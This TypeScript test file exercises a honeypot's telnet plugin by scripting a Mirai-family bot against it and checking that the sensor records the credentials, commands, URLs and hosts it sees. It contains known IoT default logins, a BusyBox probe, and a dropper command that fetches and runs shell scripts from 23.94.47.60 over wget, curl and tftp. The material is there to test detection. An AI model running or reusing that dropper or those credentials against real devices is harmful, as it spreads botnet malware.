/**
 * The telnet plugin over a real socket on 127.0.0.1, scripted like a Mirai-family bot:
 * IAC negotiation (NAWS, TTYPE), a failed and an accepted login, the router-CLI escape
 * words, the seed's BusyBox probe (ch. 5.2: `/bin/busybox; echo -e '\147\141…'`) and
 * its dropper line — credentials, commands, URLs and hosts recorded — then abuse.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import { eventually, tcp } from "../support/converse.js"
import type { TcpConversation } from "../support/converse.js"
import { freeTcpPort } from "../support/free-port.js"
import { startSensor } from "../support/sensor.js"
import type { RunningSensor } from "../support/sensor.js"
import { receivedFacts } from "./client.js"

const IAC = 255
const [WILL, WONT, DO, DONT, SB, SE] = [251, 252, 253, 254, 250, 240]
const [ECHO, SGA, TTYPE, NAWS] = [1, 3, 24, 31]

let sensor: RunningSensor
let port = 0
let locked = 0 // acceptAfter 0: nobody gets in

/** sends a line and waits for the shell prompt after it; returns what came in between */
const command = async (c: TcpConversation, line: string): Promise<string> => {
  const before = c.received().length
  c.send(line + "\r\n")
  await c.until(new RegExp(`[\\s\\S]{${before}}[\\s\\S]*\\r\\n# $`))
  return c.received().subarray(before).toString("latin1")
}

const seedDropper =
  "shell cd /tmp; wget http://23.94.47.60/gtop.sh || curl -O http://23.94.47.60/gtop.sh; chmod 777 gtop.sh; sh gtop.sh; " +
  "busybox tftp 23.94.47.60 -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; busybox tftp -r tftp2.sh -g 23.94.47.60; chmod 777 tftp2.sh; " +
  "sh tftp2.sh; rm -rf gtop.sh tftp1.sh tftp2.sh; exit"

describe("telnet plugin (scripted bot over a real socket)", () => {
  beforeAll(async () => {
    port = await freeTcpPort()
    locked = await freeTcpPort()
    const services = [
      { name: "telnet", port, publicPort: 23, transport: "tcp" as const, plugin: "telnet", options: { acceptAfter: 2 } },
      { name: "telnet-locked", port: locked, publicPort: 2323, transport: "tcp" as const, plugin: "telnet", options: { acceptAfter: 0, hostname: "router" } }
    ]
    sensor = await startSensor(services, {
      sensor: { limits: { maxSessions: 100, maxSessionsPerSource: 50, idleTimeout: "2s", payloadCap: 4096, sessionCap: 65536, udp: { replyRatio: 2, repliesPerSecond: 20, sessionIdle: "30s", maxSessions: 100 } } }
    })
  })
  afterAll(() => sensor.stop())

  it("negotiates, records both login attempts, lets the second in and answers the bot's probes", async () => {
    const c = await tcp(port)
    await c.until("localhost login: ")
    // BusyBox telnetd's own opening, which nmap -sV names "BusyBox telnetd"
    expect([...c.received().subarray(0, 12)]).toEqual([IAC, DO, ECHO, IAC, DO, NAWS, IAC, WILL, ECHO, IAC, WILL, SGA])
    c.send(Buffer.from([IAC, WONT, ECHO, IAC, DO, ECHO, IAC, DO, SGA, IAC, WILL, NAWS, IAC, SB, NAWS, 0, 132, 0, 43, IAC, SE, IAC, WILL, TTYPE]))
    await c.until(Buffer.from([IAC, SB, TTYPE, 1, IAC, SE]).toString("latin1")) // RFC 1091 SEND
    c.send(Buffer.concat([Buffer.from([IAC, SB, TTYPE, 0]), Buffer.from("XTERM"), Buffer.from([IAC, SE])]))

    c.send("root\r\n")
    await c.until("Password: ")
    c.send("xc3511\r\n")
    await c.until(/Login incorrect\r\nlocalhost login: $/)
    expect(c.received().toString("latin1")).not.toContain("xc3511") // no echo while the password is typed
    c.send("admin\r\nadmin\r\n") // a bot writes both at once
    await c.until(/BusyBox v1\.31\.1 built-in shell \(ash\)[\s\S]*\r\n\$ $/)
    c.close()

    // the third attempt from this source: in as root, with the "# " prompt
    const s = await tcp(port)
    await s.until("login: ")
    s.send("root\r\n")
    await s.until("Password: ")
    s.send("vizxv\r\n")
    await s.until(/\r\n# $/)
    for (const word of ["enable", "system", "shell"]) expect(await command(s, word)).toContain(`-sh: ${word}: not found\r\n`)
    expect(await command(s, "sh")).toBe("sh\r\n# ")
    expect(await command(s, "/bin/busybox ECCHI")).toContain("ECCHI: applet not found\r\n")
    const probe = await command(s, "/bin/busybox; echo -e '\\147\\141\\171\\146\\147\\164'")
    expect(probe).toContain("BusyBox v1.31.1 (2019-03-12 16:38:27 CST) multi-call binary.")
    expect(probe).toMatch(/\r\ngayfgt\r\n# $/)
    expect(await command(s, "cat /proc/cpuinfo")).toContain("ARMv7 Processor rev 1 (v7l)")
    expect(await command(s, "uname -a")).toContain("Linux localhost 3.10.14 #1 SMP PREEMPT")
    expect(await command(s, "id")).toContain("uid=0(root) gid=0(root)")
    expect(await command(s, "cd /tmp")).toBe("cd /tmp\r\n# ")
    expect(await command(s, "ls /")).toContain("bin  dev  etc")
    expect(await command(s, "echo hi there")).toContain("\r\nhi there\r\n")
    s.send(seedDropper + "\r\n")
    await s.closed

    const creds = await sensor.ofType("CredentialsTried")
    expect(creds.map((x) => [x.username, x.password, x.method, x.detail])).toEqual([
      ["root", "xc3511", "telnet-login", { attempt: 1, accepted: false }],
      ["admin", "admin", "telnet-login", { attempt: 2, accepted: true }],
      ["root", "vizxv", "telnet-login", { attempt: 3, accepted: true }]
    ])
    const facts = receivedFacts(await sensor.events())
    expect(facts.slice(0, 3)).toEqual([
      { phase: "login", window: "132x43", negotiation: ["WONT ECHO", "DO ECHO", "DO SGA", "WILL NAWS", "WILL TTYPE"] },
      { phase: "login", terminal: "XTERM" },
      { phase: "password", username: "root" }
    ])
    const commands = facts.flatMap((f) => (Array.isArray(f["commands"]) ? (f["commands"] as Array<string>) : []))
    expect(commands).toEqual(expect.arrayContaining(["enable", "system", "shell", "sh", "/bin/busybox ECCHI", "/bin/busybox; echo -e '\\147\\141\\171\\146\\147\\164'", seedDropper]))
    const dropper = facts.find((f) => Array.isArray(f["commands"]) && (f["commands"] as Array<string>).includes(seedDropper))
    expect(dropper).toMatchObject({
      urls: ["http://23.94.47.60/gtop.sh", "tftp://23.94.47.60/tftp1.sh", "tftp://23.94.47.60/tftp2.sh"],
      hosts: ["23.94.47.60"]
    })
    const closed = await eventually(async () => {
      const all = await sensor.ofType("ContactClosed")
      return all.length >= 2 ? all : undefined
    })
    expect(closed.map((x) => x.reason)).toContain("logout")
  })

  it("robustness: garbage and unknown options, oversize lines, three failures and a half-open socket; the listener keeps serving", async () => {
    const junk = await tcp(locked)
    await junk.until("router login: ")
    // WILL/DO for options we refuse, a stray command, binary noise, a lone IAC IAC
    junk.send(Buffer.from([IAC, WILL, 0x27, IAC, DO, 0x22, IAC, 0xf1, 0x00, 0x9f, 0xff, 0xff, 0x41, 0x0d, 0x0a]))
    await junk.until(Buffer.from([IAC, DONT, 0x27]).toString("latin1"))
    await junk.until(Buffer.from([IAC, WONT, 0x22]).toString("latin1"))
    await junk.until("Password: ")
    junk.send("x".repeat(100_000) + "\r\n") // cut into 4 KiB lines: each one is a login attempt
    await junk.closed
    const creds = (await sensor.ofType("CredentialsTried")).filter((x) => x.service === "telnet-locked")
    // NUL dropped, IAC IAC unescaped to one 0xFF; three attempts, then login(1) gives up
    expect(creds.map((x) => [x.username, (x.password ?? "").length, x.detail])).toEqual([
      ["\x9f\xffA", 256, { attempt: 1, accepted: false }],
      ["x".repeat(256), 256, { attempt: 2, accepted: false }],
      ["x".repeat(256), 256, { attempt: 3, accepted: false }]
    ])

    const halfOpen = await tcp(locked)
    await halfOpen.until("login: ")
    halfOpen.send(Buffer.from([IAC, SB, NAWS, 0])) // a subnegotiation that never ends
    await halfOpen.closed // the 2 s idle timeout

    const again = await tcp(locked)
    await again.until("router login: ")
    again.close()
    const reasons = await eventually(async () => {
      const r = (await sensor.ofType("ContactClosed")).map((x) => x.reason)
      return r.includes("login-failed") && r.includes("idle") ? r : undefined
    }, 8000, "login-failed and idle closes")
    expect(reasons).not.toContain("plugin-error")
  })
})
